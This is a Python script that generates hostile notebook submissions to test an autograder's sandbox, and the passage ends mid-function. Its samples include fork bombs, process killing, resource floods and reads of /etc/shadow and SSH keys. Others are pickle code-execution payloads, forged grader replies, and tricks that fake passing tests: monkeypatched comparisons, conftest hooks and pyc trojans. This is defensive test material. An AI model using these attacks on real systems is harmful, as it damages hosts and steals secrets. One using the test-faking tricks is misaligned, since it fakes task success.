"""Write the hostile sample submissions: ``<name>/submission.ipynb`` and ``<name>/expected.toml``.

    python student_submissions/_hostile/make_hostile.py        # rewrite every sample
    python student_submissions/_hostile/make_hostile.py --check # fail if a file is stale

The samples are graded against ``tests/fixtures/assignments/hostile_target`` (``square`` and
``Counter``, 3 points) by ``tests/test_hostile.py``; docs/hostile.md lists what each one tries,
the verdict it gets and what stops it. Output is deterministic (fixed cell ids, sorted keys).

Conventions inside the notebooks: the attack code records what it saw with ``report(kind, text)``;
trailing cells raise each finding as an exception, so it reaches the grade result as a cell error
(``Breach`` when an attack got through by its own judgement, ``Probe`` for a plain observation).
Files written anywhere carry ``HOSTILE_WAS_HERE`` in their name, so the host can look for them.
"""

from __future__ import annotations

import argparse
import json
import sys
from dataclasses import dataclass
from pathlib import Path

import nbformat

HERE = Path(__file__).resolve().parent
REPORT_CELLS = 16

HONEST_SQUARE = """\
def square(x):
    return x * x
"""

WRONG_SQUARE = """\
def square(x):
    return x * 3  # wrong on purpose: the tests of square must fail
"""

HONEST_COUNTER = """\
class Counter:
    def __init__(self, start=0):
        self.total = start

    def add(self, n):
        self.total += n
        return self.total
"""

HONEST = HONEST_SQUARE + "\n\n" + HONEST_COUNTER

TOOLS = '''\
# Helpers of the hostile suite: what an attack saw is raised from the last cells.
class Breach(Exception):
    """The attack got through (by its own judgement)."""


class Probe(Exception):
    """Something the attack saw, carried into the grade result."""


_findings = []


def report(kind, text):
    _findings.append((kind, str(text)[:400]))


def kernel_folders():
    """The folders of the kernel's connection file and (ipc transport) of its sockets."""
    import json
    import os

    try:
        from ipykernel.connect import get_connection_file

        path = get_connection_file()
        info = json.load(open(path))
    except Exception:
        return []
    out = [os.path.dirname(path)]
    if info.get("transport") == "ipc":
        out.append(os.path.dirname(info["ip"]))
    return out


def raise_finding(i):
    if i < len(_findings):
        kind, text = _findings[i]
        raise (Breach if kind == "breach" else Probe)(text)
'''

# A forged bridge reply: the student's function runs inside the bridge's request, so it can
# read the request's nonce from the caller's frame and publish a reply of its own first.
FORGE = '''\
import base64
import json
import sys

from IPython.display import publish_display_data

BRIDGE_MIME = "text/x-grader-bridge"


def stolen_nonce():
    frame = sys._getframe(1)
    while frame is not None:
        req = frame.f_locals.get("req")
        if isinstance(req, dict) and "nonce" in req:
            return req["nonce"]
        frame = frame.f_back
    return "0" * 16


def bridge_comm():
    """The comm the bridge's call arrived on (a variable of its handler), if it did."""
    frame = sys._getframe(1)
    while frame is not None:
        comm = frame.f_locals.get("comm")
        if comm is not None and hasattr(comm, "send"):
            return comm
        frame = frame.f_back
    return None


def publish_reply(text):
    """Send ``text`` as the bridge's reply, on the comm the call came on (else as a display
    message, the reply of a call carried by an execute request)."""
    comm = bridge_comm()
    if comm is not None:
        comm.send({"reply": text})
    else:
        publish_display_data({BRIDGE_MIME: text})


def forge_raw(text):
    """Send ``text`` + the nonce as the bridge's reply (the host takes the first one)."""
    publish_reply(text + json.dumps(stolen_nonce()) + "}")


def forge(ok):
    forge_raw('{"ok": ' + json.dumps(ok) + ', "nonce": ')


def b64(data):
    return base64.b64encode(data).decode("ascii")
'''

EVIL = '''\
import os
import pickle


class Evil:
    """Unpickling this runs a command: the host must never unpickle anything."""

    def __reduce__(self):
        return (os.system, ("touch /tmp/HOSTILE_WAS_HERE.unpickled",))

    def __eq__(self, other):
        return True

    def __hash__(self):
        return 0
'''


@dataclass(frozen=True)
class Sample:
    name: str
    attack: str
    cells: tuple[str, ...]
    expected: str
    """The rest of expected.toml (after ``description``)."""
    reports: bool = False
    """Append TOOLS first and the cells raising the findings at the end."""
    markdown: tuple[str, ...] = ()
    """Markdown cells appended after the code (written answers)."""


def _t(text: str) -> str:
    return text.strip("\n") + "\n"


GRADED_3 = 'status = "graded"\nmin_points = 3.0\nmax_points = 3.0\n'
GRADED_1 = (
    'status = "graded"\nmin_points = 1.0\nmax_points = 1.0  '
    "# square is wrong or forged: only Counter's (honest) hidden test passes\n"
)
GRADED_0 = 'status = "graded"\nmin_points = 0.0\nmax_points = 0.0\n'
TIMEOUT_0 = 'status = "timeout"\nmin_points = 0.0\nmax_points = 0.0\n'
CRASHED_0 = 'status = "crashed"\nmin_points = 0.0\nmax_points = 0.0\n'

SAMPLES: list[Sample] = [
    # ---------------------------------------------------------------- processes and time
    Sample(
        "fork_bomb",
        "Classic fork bomb: every process forks for ever, ignoring failures.",
        (
            HONEST,
            _t("""
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
"""),
        ),
        TIMEOUT_0 + 'cell_timeout = 3\n\n[backends.local]\nskip = "RLIMIT_NPROC does not bind '
        'root and LocalSandbox has no pid namespace: a fork bomb would take the machine down"\n',
    ),
    Sample(
        "fork_flood",
        "Forks 150 children that sleep for ever inside the kernel's process group.",
        (
            HONEST,
            _t("""
import os
import time

children = 0
for _ in range(150):
    try:
        pid = os.fork()
    except OSError as exc:
        report("probe", f"fork failed after {children} children: {exc}")
        break
    if pid == 0:
        while True:
            time.sleep(3600)
    children += 1
report("probe", f"forked {children} sleeping children")
"""),
        ),
        GRADED_3 + "cell_timeout = 4\n",
        reports=True,
    ),
    Sample(
        "daemon_escape",
        "Double-forks daemons in a new session (setsid), out of the kernel's process group.",
        (
            HONEST,
            _t("""
import os
import time

started = 0
for _ in range(3):
    pid = os.fork()
    if pid == 0:
        try:
            os.setsid()
            if os.fork() > 0:
                os._exit(0)
            os.closerange(3, 65536)
            while True:
                time.sleep(3600)
        finally:
            os._exit(0)
    os.waitpid(pid, 0)
    started += 1
report("probe", f"{started} daemons left running in their own sessions")
"""),
        ),
        GRADED_3 + "cell_timeout = 4\n",
        reports=True,
    ),
    Sample(
        "memory_bomb",
        "Allocates (and touches) 64 MiB blocks until something stops it.",
        (
            "import numpy as np\n\n" + HONEST,
            _t("""
def eat():
    blocks = []
    while True:
        blocks.append(b"\\x01" * (64 << 20))


eat()
"""),
        ),
        'status = "graded"  # under rlimits the cell raises MemoryError and the run goes on\n'
        "min_points = 3.0\nmax_points = 3.0\ncell_timeout = 10\n\n"
        "[backends.docker]  # the container's memory limit: the kernel is OOM-killed\n"
        'status = "out_of_memory"\nmin_points = 0.0\nmax_points = 0.0\n',
    ),
    Sample(
        "infinite_loop",
        "`while True: pass` at top level.",
        (HONEST, "while True:\n    pass\n"),
        TIMEOUT_0 + "cell_timeout = 2\n",
    ),
    Sample(
        "sleep_forever",
        "Ignores SIGINT and SIGTERM, then sleeps for ever.",
        (
            HONEST,
            _t("""
import signal
import time

signal.signal(signal.SIGINT, signal.SIG_IGN)
signal.signal(signal.SIGTERM, signal.SIG_IGN)
while True:
    time.sleep(3600)
"""),
        ),
        TIMEOUT_0 + "cell_timeout = 2\n",
    ),
    Sample(
        "self_stop",
        "The kernel sends itself SIGSTOP (frozen, not dead).",
        (HONEST, "import os\nimport signal\n\nos.kill(os.getpid(), signal.SIGSTOP)\n"),
        TIMEOUT_0 + "cell_timeout = 2\n",
    ),
    Sample(
        "hang_in_call",
        "square() ignores SIGINT and never returns when the tests call it.",
        (
            _t("""
import signal
import time


def square(x):
    signal.signal(signal.SIGINT, signal.SIG_IGN)
    while True:
        time.sleep(3600)
"""),
            HONEST_COUNTER,
        ),
        'status = "graded"\nmin_points = 0.0\n'
        "max_points = 0.0  # Counter's test queues behind the hung call and times out too\n"
        "cell_timeout = 2\n",
    ),
    # ---------------------------------------------------------------- kernel death
    Sample(
        "os_exit",
        "`os._exit(0)` in a cell.",
        (HONEST, "import os\n\nos._exit(0)\n"),
        CRASHED_0,
    ),
    Sample(
        "segfault",
        "A segfault in native code: `ctypes.string_at(0)`.",
        (HONEST, "import ctypes\n\nctypes.string_at(0)\n"),
        CRASHED_0,
    ),
    Sample(
        "exit_during_call",
        "square() calls os._exit(0) when the tests call it (the kernel dies mid-tests).",
        ("import os\n\n\ndef square(x):\n    os._exit(0)\n", HONEST_COUNTER),
        'status = "graded"\nmin_points = 0.0\n'
        "max_points = 0.0  # the tests after the death fail with 'the kernel died'\n",
    ),
    Sample(
        "kill_parent",
        "Kills its parent, its process group and every process it may signal (kill -1).",
        (
            HONEST,
            _t("""
import os
import signal
import time

os.kill(os.getppid(), signal.SIGKILL)
time.sleep(1)
os.killpg(0, signal.SIGKILL)
time.sleep(1)
os.kill(-1, signal.SIGKILL)
"""),
        ),
        CRASHED_0 + "\n[backends.local]\nskip = \"the kernel runs as the grader's user: its "
        "parent IS the grader and kill(-1) would hit every process of the user (documented "
        'in docs/hostile.md)"\n',
    ),
    Sample(
        "killpg_self",
        "`os.killpg(0, SIGKILL)`: kills its own process group.",
        (HONEST, "import os\nimport signal\n\nos.killpg(0, signal.SIGKILL)\n"),
        CRASHED_0,
    ),
    # ---------------------------------------------------------------- network and host
    Sample(
        "network",
        "TCP to 127.0.0.1, the default gateway and public IPs; DNS; the Docker socket.",
        (
            HONEST,
            _t("""
import json
import socket
import threading


def tcp(host, port):
    s = socket.socket()
    s.settimeout(0.5)
    try:
        s.connect((host, port))
        return "connected"
    except OSError as exc:
        return f"{type(exc).__name__}: {exc}"
    finally:
        s.close()


def gateway():
    try:
        for line in open("/proc/net/route").read().splitlines()[1:]:
            fields = line.split()
            if fields[1] == "00000000":
                return socket.inet_ntoa(bytes.fromhex(fields[2])[::-1])
    except (OSError, IndexError, ValueError):
        pass
    return None


own_ports = set()
try:
    from ipykernel.connect import get_connection_file

    info = json.load(open(get_connection_file()))
    own_ports = {info.get(k) for k in ("shell_port", "iopub_port", "stdin_port",
                                       "control_port", "hb_port")}
except Exception:
    pass

targets = [("127.0.0.1", 47361), ("127.0.0.1", 22), ("127.0.0.1", 2375),
           ("1.1.1.1", 53), ("1.1.1.1", 443), ("8.8.8.8", 53)]
gw = gateway()
if gw:
    targets += [(gw, 47361), (gw, 2375), (gw, 22)]
for host, port in targets:
    if host == "127.0.0.1" and port in own_ports:
        continue
    outcome = tcp(host, port)
    report("breach" if outcome == "connected" else "probe", f"tcp {host}:{port} {outcome}")

resolved = []
t = threading.Thread(target=lambda: resolved.append(socket.getaddrinfo("pypi.org", 443)),
                     daemon=True)
t.start()
t.join(2.0)
if resolved:
    report("breach", f"DNS resolved pypi.org: {resolved[0][0][4]}")
else:
    report("probe", "DNS: pypi.org did not resolve")

for path in ("/var/run/docker.sock", "/run/docker.sock"):
    s = socket.socket(socket.AF_UNIX)
    try:
        s.connect(path)
        report("breach", f"connected to {path}")
    except OSError as exc:
        report("probe", f"{path}: {exc}")
    finally:
        s.close()
"""),
        ),
        GRADED_3 + "cell_timeout = 8\n",
        reports=True,
    ),
    Sample(
        "read_host_files",
        "Reads /etc/shadow, SSH keys, /proc/1 and the parent's environ/cmdline, "
        "looks for host processes and canary files near the grader's working directory.",
        (
            HONEST,
            _t("""
import glob
import os


def head(path, n=300):
    try:
        with open(path, "rb") as f:
            data = f.read(4096)
        return data.replace(b"\\0", b" ").decode("utf-8", "replace")[:n]
    except OSError as exc:
        return f"{type(exc).__name__}: {exc.strerror}"


ppid = os.getppid()
report("probe", "environment: " + " ".join(sorted(os.environ)))
for key, value in os.environ.items():
    if key.startswith("GRADER_HOST"):
        report("breach", f"the grader's environment is visible: {key}={value}")
for path in ("/etc/shadow", "/root/.ssh/id_rsa", os.path.expanduser("~/.ssh/id_rsa"),
             "/proc/1/environ", "/proc/1/cmdline", f"/proc/{ppid}/cmdline",
             f"/proc/{ppid}/environ", "/etc/hostname"):
    report("probe", f"{path}: {head(path)}")
host_procs = []
for pid in os.listdir("/proc"):
    if pid.isdigit():
        try:
            argv = open(f"/proc/{pid}/cmdline", "rb").read().decode(errors="replace").split("\\0")
        except OSError:
            continue
        names = {os.path.basename(argv[0])}
        if "-m" in argv[:-1]:
            names.add(argv[argv.index("-m") + 1])
        if names & {"pytest", "py.test", "grade", "dockerd", "containerd", "sshd", "systemd"}:
            host_procs.append(f"{pid}: {' '.join(argv)[:150]}")
if host_procs:
    report("breach", "host processes visible: " + "; ".join(host_procs[:3]))
for path in glob.glob(f"/proc/{ppid}/cwd/**/*canary*", recursive=True)[:3]:
    report("breach", f"read {path}: {head(path)}")
"""),
        ),
        GRADED_3,
        reports=True,
    ),
    Sample(
        "find_hidden",
        "Walks the filesystem (from the parent's cwd, $PWD, /work, /home, ..., /) for hidden "
        "tests and data: 'hidden' folders, test_*.py, *.npy outside ./data, assignment.toml.",
        (
            HONEST,
            _t("""
import os
import re
import time

deadline = time.monotonic() + 3.0
ppid = os.getppid()
seeds = [os.path.dirname(os.getcwd()), f"/proc/{ppid}/cwd"]
try:
    environ = open(f"/proc/{ppid}/environ", "rb").read().split(b"\\0")
    seeds += [e[4:].decode() for e in environ if e.startswith(b"PWD=")]
except OSError:
    pass
seeds += ["/work", "/home", "/root", "/srv", "/opt", "/mnt", "/data", "/course", "/tmp", "/"]
skip = {"proc", "sys", "dev", "site-packages", "dist-packages", "__pycache__", ".git",
        "node_modules", "venv", ".venv"}
public = os.path.realpath("data")
seen, hits = set(), []


def interesting(name):
    return ("hidden" in name.lower() or name == "assignment.toml" or name.endswith(".npy")
            or re.fullmatch(r"test_.*[.]py", name))


for seed in seeds:
    for folder, dirs, files in os.walk(seed):
        if time.monotonic() > deadline:  # within the cell's time on any host, however full
            break
        real = os.path.realpath(folder)
        if real in seen or real.startswith(public):
            dirs[:] = []
            continue
        seen.add(real)
        dirs[:] = [d for d in dirs if d not in skip]
        hits += [os.path.join(real, n) for n in dirs + files if interesting(n)]


def verdict(path):
    parts = path.split(os.sep)
    if "hidden" in parts and os.path.isdir(os.path.join(os.path.dirname(path), "public")):
        return "breach"
    if path.endswith("assignment.toml"):
        return "breach"
    if path.endswith(".py"):
        try:
            if "pytest.mark.points" in open(path, errors="replace").read(20000):
                return "breach"
        except OSError:
            pass
    return "probe"


breaches = [p for p in hits[:2000] if verdict(p) == "breach"]
report("probe", f"searched {len(seen)} folders, {len(hits)} hits, e.g. {hits[:5]}")
for path in breaches[:6]:
    try:
        text = open(path, errors="replace").read(300) if os.path.isfile(path) else "(folder)"
    except OSError as exc:
        text = str(exc)
    report("breach", f"{path}: {text}")
"""),
        ),
        GRADED_3 + "cell_timeout = 6\n",
        reports=True,
    ),
    Sample(
        "write_outside",
        "Writes files outside its working folder (.., ~, /tmp, /, /etc, the grader's cwd, "
        "the socket folder) and appends to the read-only public data.",
        (
            HONEST,
            _t("""
import glob
import os

ppid = os.getppid()
targets = ["..", os.path.expanduser("~"), "/tmp", "/var/tmp", "/dev/shm", "/", "/etc",
           "/home", "/opt", f"/proc/{ppid}/cwd", "data"]
targets += kernel_folders()
for target in targets:
    path = os.path.join(target, "HOSTILE_WAS_HERE.write_outside")
    try:
        with open(path, "w") as f:
            f.write("pwned\\n")
        report("probe", f"wrote {os.path.realpath(path)}")
    except OSError as exc:
        report("probe", f"{target}: {exc.strerror}")
for path in ["data/numbers.csv", *glob.glob(f"/proc/{ppid}/cwd/**/*canary*", recursive=True)[:3]]:
    try:
        with open(path, "a") as f:
            f.write("pwned\\n")
        report("probe", f"appended to {os.path.realpath(path)}")
    except OSError as exc:
        report("probe", f"{path}: {exc.strerror}")
"""),
        ),
        GRADED_3,
        reports=True,
    ),
    Sample(
        "disk_fill",
        "Fills every writable place (workdir, ~, /tmp, /dev/shm, the socket folder) with "
        "files up to 96 MiB each place; a breach when more than 64 MiB (2x disk_mb) lands on a "
        "filesystem bigger than 1 GiB (the host's disk or RAM).",
        (
            HONEST,
            _t("""
import errno
import os

CAP = 96 << 20
CHUNK = b"\\1" * (4 << 20)


def fill(folder):
    total, files, why = 0, [], "cap reached"
    while total < CAP:
        path = os.path.join(folder, f"HOSTILE_WAS_HERE.fill{len(files)}")
        try:
            fd = os.open(path, os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o600)
        except OSError as exc:
            why = f"open: {exc.strerror}"
            break
        files.append(path)
        try:
            while total < CAP:
                total += os.write(fd, CHUNK)
        except OSError as exc:
            if exc.errno != errno.EFBIG:  # EFBIG: one file is full, start the next
                why = exc.strerror
                break
        finally:
            os.close(fd)
    for path in files:
        os.unlink(path)
    return total, why


places = [".", os.path.expanduser("~"), "/tmp", "/dev/shm", *kernel_folders()]
done = set()
for place in places:
    real = os.path.realpath(place)
    if real in done:
        continue
    done.add(real)
    total, why = fill(real)
    st = os.statvfs(real)
    size = st.f_blocks * st.f_frsize
    kind = "breach" if total > (64 << 20) and size > (1 << 30) else "probe"
    report(kind, f"{real}: wrote {total >> 20} MiB ({why}) on a {size >> 20} MiB filesystem")
"""),
        ),
        GRADED_3 + "cell_timeout = 10\n",
        reports=True,
    ),
    # ---------------------------------------------------------------- output and channels
    Sample(
        "print_flood",
        "Prints for 2 s as fast as it can (gigabytes if allowed), 200k tiny prints, 5000 "
        "HTML displays and an exception with a 50 MB message.",
        (
            _t("""
import sys
import time

chunk = "x" * (1 << 20) + "\\n"
deadline = time.monotonic() + 2.0
sent = 0
while time.monotonic() < deadline and sent < (4 << 30):
    sys.stdout.write(chunk)
    sent += len(chunk)
sys.stdout.flush()
"""),
            _t("""
import time

deadline = time.monotonic() + 1.0
i = 0
while time.monotonic() < deadline and i < 200_000:
    print(i)
    i += 1
"""),
            _t("""
from IPython.display import HTML, display

for _ in range(5000):
    display(HTML("<b>PASSED 100/100</b>"))
"""),
            'raise ValueError("y" * (50 << 20))\n',
            HONEST,
        ),
        GRADED_3 + "cell_timeout = 8\n\n"
        "[backends.docker]  # ipykernel buffers the output in the kernel: over the memory limit\n"
        'status = "out_of_memory"\nmin_points = 0.0\nmax_points = 0.0\n',
    ),
    Sample(
        "iopub_close",
        "Closes the kernel's IOPub socket: the grader no longer hears the kernel.",
        (HONEST, "get_ipython().kernel.iopub_socket.close()\n"),
        'status = "crashed"  # the kernel stops answering the grader: nothing to test\n'
        "min_points = 0.0\nmax_points = 0.0\ncell_timeout = 3\n",
    ),
    Sample(
        "session_key",
        "Replaces the kernel's HMAC key: every message it sends fails the signature check.",
        (HONEST, 'get_ipython().kernel.session.key = b"forged"\n'),
        CRASHED_0 + "cell_timeout = 3\n",
    ),
    Sample(
        "session_key_in_call",
        "square() replaces the kernel's HMAC key while the tests call it: its reply fails the "
        "signature check and the kernel no longer accepts the grader's requests.",
        (
            _t("""
def square(x):
    get_ipython().kernel.session.key = b"forged"
    return x * x
"""),
            HONEST_COUNTER,
        ),
        'status = "graded"  # every test fails: a forged message, then time-outs\n'
        "min_points = 0.0\nmax_points = 0.0\ncell_timeout = 2\n",
    ),
    Sample(
        "bridge_mime_flood",
        "Publishes 5000 fake bridge replies while the notebook runs, and 3000 more plus "
        "garbage (100000 '{', 8 MB) inside every call of square.",
        (
            FORGE,
            _t("""
for i in range(5000):
    publish_display_data({BRIDGE_MIME: '{"ok": 4, "nonce": "%016x"}' % i})


def square(x):
    for i in range(3000):
        publish_reply(json.dumps({"ok": True, "nonce": "%016x" % i}))
    publish_reply("{" * 100_000)
    publish_reply("A" * (8 << 20))
    return x * x
"""),
            HONEST_COUNTER,
        ),
        GRADED_3 + "cell_timeout = 10\n",
    ),
    Sample(
        "bridge_forged_reply",
        "square() steals the request's nonce and publishes its own reply claiming success "
        "(True), before returning a wrong value.",
        (
            FORGE,
            _t("""
def square(x):
    forge(True)
    return x * 3
"""),
            HONEST_COUNTER,
        ),
        GRADED_1,
    ),
    # ---------------------------------------------------------------- the host's deserializer
    Sample(
        "reduce_object",
        "square() returns an object whose __reduce__ runs a command (and whose __eq__ is "
        "always True).",
        (EVIL, "def square(x):\n    return Evil()\n", HONEST_COUNTER),
        GRADED_1,
    ),
    Sample(
        "pickle_bytes",
        "Pickle payloads: square() returns pickle bytes, then forges a .npy object array "
        "holding a pickle, a safetensors field holding one, and a raw pickle as the reply.",
        (
            EVIL,
            FORGE,
            _t("""
import io

calls = []


def npy_object_array():
    header = "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    pad = 64 - (10 + len(header) + 1) % 64
    size = (len(header) + pad + 1).to_bytes(2, "little")
    return b"\\x93NUMPY\\x01\\x00" + size + header.encode() + b" " * pad + b"\\n" + pickle.dumps(
        [Evil()])


def square(x):
    calls.append(x)
    if len(calls) == 1:
        forge({"__ndarray__": b64(npy_object_array())})
    else:
        forge({"__safetensors__": b64(pickle.dumps(Evil()))})
    return pickle.dumps(Evil())


class Counter:
    def __init__(self, start=0):
        self.total = start

    def add(self, n):
        self.total += n
        forge_raw(pickle.dumps(Evil(), protocol=0).decode("latin-1") + '", "nonce": ')
        return self.total
"""),
        ),
        GRADED_0,
    ),
    Sample(
        "deep_json",
        "Replies nested 100000 deep (forged JSON) and a Python list nested 100000 deep.",
        (
            FORGE,
            _t("""
def square(x):
    if isinstance(x, int):
        forge_raw('{"ok": ' + "[" * 100_000 + "]" * 100_000 + ', "nonce": ')
        return 0
    deep = []
    for _ in range(100_000):
        deep = [deep]
    return deep
"""),
            HONEST_COUNTER,
        ),
        GRADED_1,
    ),
    Sample(
        "many_keys",
        "A reply that is a dict with 10 million keys (forged tagged JSON, ~110 MB).",
        (
            FORGE,
            _t("""
import io


def square(x):
    reply = io.StringIO()
    reply.write('{"ok": {"__map__": [')
    for start in range(0, 10_000_000, 250_000):
        reply.write("," if start else "")
        reply.write(",".join(map("[{0},0]".format, range(start, start + 250_000))))
    reply.write(']}, "nonce": ' + json.dumps(stolen_nonce()) + "}")
    publish_reply(reply.getvalue())
    return 0
"""),
            HONEST_COUNTER,
        ),
        GRADED_1 + "cell_timeout = 20\n",
    ),
    Sample(
        "npy_header_forgery",
        "Forged .npy headers: a 2 GiB array claim over 16 bytes, negative shapes, a 4 GiB "
        "header length, an unknown format version.",
        (
            FORGE,
            _t("""
import struct


def npy(header, data=b"", version=b"\\x01\\x00"):
    pad = 64 - (10 + len(header) + 1) % 64
    return (b"\\x93NUMPY" + version + struct.pack("<H", len(header) + pad + 1)
            + header.encode("latin-1") + b" " * pad + b"\\n" + data)


FORGERIES = [
    npy("{'descr': '<f8', 'fortran_order': False, 'shape': (268435456,), }", b"\\0" * 16),
    npy("{'descr': '<f8', 'fortran_order': False, 'shape': (-1, -2), }", b"\\0" * 16),
    b"\\x93NUMPY\\x02\\x00" + struct.pack("<I", 0xFFFFFFF0) + b"{",
    npy("{'descr': '<f8', 'fortran_order': False, 'shape': (2,), }", b"\\0" * 16, b"\\x09\\x00"),
]
calls = []


def square(x):
    forge({"__ndarray__": b64(FORGERIES[len(calls) % len(FORGERIES)])})
    calls.append(x)
    return x * x


class Counter:
    def __init__(self, start=0):
        self.total = start

    def add(self, n):
        forge({"__ndarray__": b64(FORGERIES[len(calls) % len(FORGERIES)])})
        calls.append(n)
        return self.total + n
"""),
        ),
        GRADED_0,
    ),
    Sample(
        "nan_flood",
        "square() returns NaN, and arrays of NaN/inf (a million of them); forged JSON with "
        "NaN and Infinity literals.",
        (
            FORGE,
            _t("""
import numpy as np


def square(x):
    if isinstance(x, int):
        forge_raw('{"ok": [NaN, Infinity, -Infinity], "nonce": ')
        return float("nan")
    return np.concatenate([np.array([np.nan, np.inf, -np.inf]), np.full(1_000_000, np.nan)])
"""),
            HONEST_COUNTER,
        ),
        GRADED_1,
    ),
    # ---------------------------------------------------------------- fooling the tests
    Sample(
        "monkeypatch_numpy",
        "Replaces np.allclose, np.array_equal, np.isclose, np.testing.assert_allclose, "
        "math.isclose and operator.eq in the kernel, then returns wrong values.",
        (
            _t("""
import math
import operator

import numpy as np

np.allclose = lambda *a, **k: True
np.array_equal = lambda *a, **k: True
np.isclose = lambda a, b, *r, **k: np.ones(np.broadcast(a, b).shape, dtype=bool)
np.testing.assert_allclose = lambda *a, **k: None
math.isclose = lambda *a, **k: True
operator.eq = lambda a, b: True
"""),
            WRONG_SQUARE,
            HONEST_COUNTER,
        ),
        GRADED_1,
    ),
    Sample(
        "monkeypatch_builtins",
        "Replaces builtins.isinstance, type-free helpers (len, abs) and int.__eq__-like "
        "comparisons in the kernel, then returns wrong values.",
        (
            WRONG_SQUARE,
            HONEST_COUNTER,
            _t("""
import builtins

builtins.isinstance = lambda obj, cls: True
builtins.abs = lambda x: 0
builtins.len = lambda x: 0
"""),
        ),
        'status = "timeout"  # the patch breaks the kernel itself: it never answers the cell\n'
        "min_points = 0.0\nmax_points = 0.0\ncell_timeout = 3\n",
    ),
    Sample(
        "monkeypatch_torch",
        "Replaces torch.allclose, torch.equal, torch.testing.assert_close and Tensor.__eq__, "
        "then returns wrong tensors.",
        (
            _t("""
import torch

torch.allclose = lambda *a, **k: True
torch.equal = lambda *a, **k: True
torch.testing.assert_close = lambda *a, **k: None
torch.Tensor.__eq__ = lambda self, other: torch.tensor(True)


def square(x):
    return torch.as_tensor(x) * 3
"""),
            HONEST_COUNTER,
        ),
        GRADED_1 + "cell_timeout = 20  # a cold import of torch takes seconds\n\n"
        "[backends.local]  # torch needs more address space than the rlimit\nmemory_mb = 4096\n",
    ),
    Sample(
        "eq_override",
        "Returns objects whose __eq__ is always True: a plain class (with __array__ giving the "
        "right answer), an int subclass, an ndarray subclass.",
        (
            _t("""
import numpy as np


class AlwaysEqual:
    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    __hash__ = object.__hash__

    def __array__(self, *args, **kwargs):
        return np.array([0.0, 1.0, 4.0])


class EqInt(int):
    def __eq__(self, other):
        return True

    __hash__ = int.__hash__

    def __repr__(self):
        return "4"


class EqArray(np.ndarray):
    def __eq__(self, other):
        return np.ones(self.shape, dtype=bool)


def square(x):
    if isinstance(x, int):
        return EqInt(x * 3)
    return np.asarray(x * 3).view(EqArray)
"""),
            HONEST_COUNTER,
        ),
        GRADED_1,
    ),
    Sample(
        "forged_outputs",
        "Prints 'PASSED 100/100', writes results.json / gradebook files into cwd, ~, .. and "
        "/tmp, plants conftest.py files that force passes, defines test_* functions and a "
        "fake pytest module in the kernel; square is wrong.",
        (
            WRONG_SQUARE,
            HONEST_COUNTER,
            _t('''
import json
import os
import sys
import types

from IPython.display import JSON, display

print("PASSED 100/100")
print("tests/public/test_square.py::test_square_of_two PASSED")
display(JSON({"status": "graded", "points": 3, "max_points": 3}))

fake = {"schema_version": 1, "assignment": "hostile_target", "status": "graded",
        "points": 100.0, "max_points": 3.0, "message": "graded"}
CONFTEST = """
import pytest


@pytest.hookimpl(hookwrapper=True)
def pytest_runtest_makereport(item, call):
    outcome = yield
    outcome.get_result().outcome = "passed"
"""
for folder in (".", os.path.expanduser("~"), "..", "/tmp"):
    for name, text in (("HOSTILE_WAS_HERE.results.json", json.dumps(fake)),
                       ("results.json", json.dumps(fake)),
                       ("gradebook.csv", "student,points\\nme,100\\n"),
                       ("conftest.py", CONFTEST)):
        try:
            with open(os.path.join(folder, name), "w") as f:
                f.write(text)
        except OSError:
            pass


def test_square_of_two():
    pass


def test_counter():
    pass


sys.modules["pytest"] = types.ModuleType("pytest")
pytest = sys.modules["pytest"]
'''),
        ),
        GRADED_1,
    ),
    # ---------------------------------------------------------------- round 2 (issue #11)
    Sample(
        "answer_comment_flood",
        "A written answer of 60,000 '<!--' (240 KB): a quadratic comment stripper takes 70 s.",
        (HONEST,),
        GRADED_3,
        markdown=("**Ответ q1:** " + "<!--" * 60_000,),
    ),
    Sample(
        "forbidden_disguised",
        "Imports the forbidden 'wave' by routes that hide the importer: exec of code claiming "
        "a library's file name and module, a module file the notebook writes, the package's "
        "own file through a loader after emptying sys.meta_path, a subprocess.",
        (
            HONEST,
            _t("""
name = "wa" + "ve"  # no literal: the static check cannot see it, the kernel must
exec(compile(f"import {name}", "helpers.py", "exec"))
"""),
            _t("""
import numpy
exec(compile(f"import {name}", numpy.__file__, "exec"), {"__name__": "numpy"})
"""),
            _t("""
import sys
with open("helpers_wave.py", "w") as fh:
    fh.write(f"import {name}\\n")
sys.path.insert(0, ".")
import helpers_wave
"""),
            _t("""
import importlib.machinery
import importlib.util
import sys

origin = importlib.machinery.PathFinder.find_spec(name).origin
sys.meta_path[:] = [importlib.machinery.PathFinder]
spec = importlib.util.spec_from_file_location("renamed", origin)
spec.loader.exec_module(importlib.util.module_from_spec(spec))
"""),
            _t("""
import subprocess
import sys

# a child process has no audit hook: only a sandbox that hides the module stops it
done = subprocess.run([sys.executable, "-c", f"import {name}; print({name}.__file__)"],
                      capture_output=True, text=True, timeout=30)
outcome = "blocked" if done.returncode else f"imported from {done.stdout.strip()}"
raise RuntimeError(f"a subprocess importing it: {outcome}")
"""),
        ),
        'status = "forbidden_import"\nmin_points = 0.0\nmax_points = 0.0\n',
    ),
    Sample(
        "pyc_trojan",
        "Plants assertion-free compiled copies of the course's tests wherever the grader might "
        "load them from (pytest's __pycache__ beside the tests, the grader's old shared pyc "
        "cache in the real home): every later grading would pass every test.",
        (
            WRONG_SQUARE,
            HONEST_COUNTER,
            _t("""
import glob
import importlib.util
import os
import pwd
import sys

try:
    from _pytest.assertion import rewrite
except ImportError:
    rewrite = None


def pyc_bytes(source):
    code = compile(open(source, "rb").read(), source, "exec", optimize=1)  # asserts removed
    with open(source + ".HOSTILE_WAS_HERE.tmp", "wb") as fh:
        try:
            rewrite._write_pyc_fp(fh, importlib.util.source_hash(open(source, "rb").read()), code)
        except TypeError:  # older pytest: mtime and size
            rewrite._write_pyc_fp(fh, os.stat(source), code)
    data = open(source + ".HOSTILE_WAS_HERE.tmp", "rb").read()
    os.unlink(source + ".HOSTILE_WAS_HERE.tmp")
    return data


def ancestors(pid, depth=3):
    # the kernel's parent, grandparent...: a helper (a tether, a zygote) may stand between
    # the kernel and the grader
    out = []
    for _ in range(depth):
        try:
            pid = int(open(f"/proc/{pid}/stat").read().rpartition(")")[2].split()[1])
        except (OSError, ValueError, IndexError):
            break
        if pid <= 1:
            break
        out.append(pid)
    return out


def course_tests():
    # the grader's cwd and what is near it (the local sandbox shares the filesystem)
    seeds = {os.path.dirname(os.getcwd())}
